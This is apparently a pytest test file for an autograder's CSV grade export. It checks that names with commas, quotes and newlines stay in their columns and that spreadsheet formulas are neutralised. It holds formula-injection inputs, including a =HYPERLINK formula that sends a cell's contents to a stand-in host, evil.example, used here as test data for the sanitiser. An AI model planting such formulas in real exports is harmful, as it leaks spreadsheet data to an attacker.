"""`nbgrader export` writes a table in which every cell stays in its column, and none is a formula."""

import csv
import io
import subprocess
import sys

import pytest
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin

from autograder.batch.grades_table import COLUMNS
from autograder.batch.table import csv_text
from autograder.files import harmless
from tests.sample_class import ASSIGNMENT, hand_in

ODD = '=HYPERLINK("http://evil.example?"&A1,"Error, click here")'


# nbgrader's own way of adding a submission
pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")


@pytest.fixture
def course(tmp_path):
    hand_in(tmp_path, {})
    with Gradebook(f"sqlite:///{tmp_path}/gradebook.db", "attention") as gradebook:
        gradebook.add_assignment(ASSIGNMENT, duedate="2026-01-01")
        gradebook.add_notebook(ASSIGNMENT, ASSIGNMENT)
        gradebook.add_grade_cell("check_x", ASSIGNMENT, ASSIGNMENT, max_score=4, cell_type="code")
        gradebook.add_student("ada", first_name="Ada, Countess", last_name='Lovelace "née Byron"')
        gradebook.add_student("eve", first_name=ODD, last_name="O\nNeil")
        gradebook.add_student("joe", email="joe@example.org")
        for student, score in {"ada": 4, "eve": 1}.items():
            entry = gradebook.add_submission(ASSIGNMENT, student, timestamp="2026-01-02")
            entry.notebooks[0].grades[0].auto_score = score
            entry.notebooks[0].late_submission_penalty = 1.5 if student == "ada" else None
        gradebook.db.commit()
    return tmp_path


def export(course, *flags):
    command = [sys.executable, "-m", "nbgrader", "export", *flags]
    subprocess.run(command, cwd=course, check=True, capture_output=True)
    with (course / "grades.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.long
def test_a_comma_moves_no_score_and_no_name_is_a_formula(course):
    rows = {row["student_id"]: row for row in export(course)}
    assert sorted(rows) == ["ada", "eve", "joe"]
    assert tuple(rows["ada"]) == COLUMNS
    assert rows["ada"]["first_name"] == "Ada, Countess"
    assert rows["ada"]["last_name"] == 'Lovelace "née Byron"'
    assert (rows["ada"]["raw_score"], rows["ada"]["score"]) == ("4.0", "2.5")
    assert rows["eve"]["first_name"] == f"'{ODD}" and rows["eve"]["last_name"] == "O�Neil"
    assert (rows["joe"]["score"], rows["joe"]["max_score"]) == ("0.0", "4.0")
    assert rows["joe"]["timestamp"] == ""


@pytest.mark.long
def test_assignments_stand_by_number(course):
    with Gradebook(f"sqlite:///{course}/gradebook.db", "attention") as gradebook:
        for name in ("a10_ten", "a1_one", "a9_nine"):
            gradebook.add_assignment(name)
    names = dict.fromkeys(row["assignment"] for row in export(course))
    assert list(names) == ["a1_one", ASSIGNMENT, "a9_nine", "a10_ten"]


@pytest.mark.long
def test_who_has_no_name_stands_in_the_order_of_ids(course):
    with Gradebook(f"sqlite:///{course}/gradebook.db", "attention") as gradebook:
        for student in ("zoe", "amy", "kim"):
            gradebook.add_student(student)
        gradebook.db.commit()
    assert [row["student_id"] for row in export(course)] == [
        "amy", "joe", "kim", "zoe", "ada", "eve",
    ]  # fmt: skip


@pytest.mark.long
def test_nbgraders_own_flags_hold(course):
    rows = export(course, f"--assignment=['{ASSIGNMENT}']", "--student=['eve']")
    assert [row["student_id"] for row in rows] == ["eve"]


@pytest.mark.long
def test_where_nothing_needs_a_quote_the_table_is_nbgraders(course, tmp_path):
    """Line by line what nbgrader's exporter writes, so that what reads the one reads the other."""
    with Gradebook(f"sqlite:///{course}/gradebook.db", "attention") as gradebook:
        ada, eve = gradebook.find_student("ada"), gradebook.find_student("eve")
        ada.first_name, ada.last_name, eve.first_name, eve.last_name = "Ada", "Lovelace", "Eve", "O"
        gradebook.db.commit()
        CsvExportPlugin(to=str(tmp_path / "nbgrader.csv")).export(gradebook)
    export(course)
    ours = (course / "grades.csv").read_text().splitlines()
    assert ours == (tmp_path / "nbgrader.csv").read_text().splitlines()


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "�=1"), ("\r=1", "�=1"), (" =1", " '=1"), ("＝1", "'＝1"), ("x;=1", "x;'=1"),
        ("-3", "-3"), ("-3.5", "-3.5"), ("-1e-3", "-1e-3"), ("+2", "'+2"), ("-3\n", "'-3�"), ("-٣", "'-٣"), (-2.5, -2.5), (None, None), ("a-b", "a-b"),
    ],
)  # fmt: skip
def test_no_cell_acts_and_a_negative_number_stays_one(cell, written):
    assert harmless(cell) == written


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        ";=1",
        ';"=1+1;',
        '"=1',
        ';""=1;',
        '; " =1',
        "x;\t=1",
        "＝1",
        ";＂=1;",
        "\xa0=1",
        ";\ufeff@x",
    ],
)
def test_no_separator_of_a_spreadsheet_lays_a_formula_bare(text):
    line = csv_text([["ada", harmless(text), "x"]])
    for separator in ",;\t":
        [cells] = csv.reader(io.StringIO(line), delimiter=separator)
        assert not any(cell.lstrip(' "').startswith(("=", "+", "-", "@", "＝")) for cell in cells)
    assert harmless(harmless(text)) == harmless(text)
